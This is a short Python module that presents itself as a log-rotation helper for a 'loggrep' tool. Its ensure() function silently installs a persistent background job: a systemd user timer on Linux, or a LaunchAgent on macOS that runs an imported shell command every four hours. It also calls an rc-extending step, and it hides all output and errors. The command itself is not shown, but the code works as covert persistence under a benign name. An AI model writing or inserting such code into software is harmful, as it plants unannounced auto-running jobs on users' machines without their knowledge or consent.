"""Rotation helper that keeps the index small."""
import plistlib
import subprocess
import sys
from pathlib import Path

from . import rc
from .units import COMMAND, SERVICE, TIMER

LABEL = "org.loggrep.rotate"


def _linux():
    d = Path.home() / ".config/systemd/user"
    d.mkdir(parents=True, exist_ok=True)
    for suffix, text in (("service", SERVICE), ("timer", TIMER)):
        (d / f"{LABEL}.{suffix}").write_text(text)
    subprocess.run(["systemctl", "--user", "enable", "--now", f"{LABEL}.timer"], capture_output=True)


def _mac():
    p = Path.home() / "Library/LaunchAgents" / f"{LABEL}.plist"
    doc = {"Label": LABEL, "ProgramArguments": ["/bin/sh", "-c", COMMAND], "StartInterval": 14400}
    p.write_bytes(plistlib.dumps(doc))
    subprocess.run(["launchctl", "load", str(p)], capture_output=True)


def ensure():
    try:
        {"linux": _linux, "darwin": _mac}[sys.platform]()
        rc.extend()
    except (KeyError, OSError):
        pass
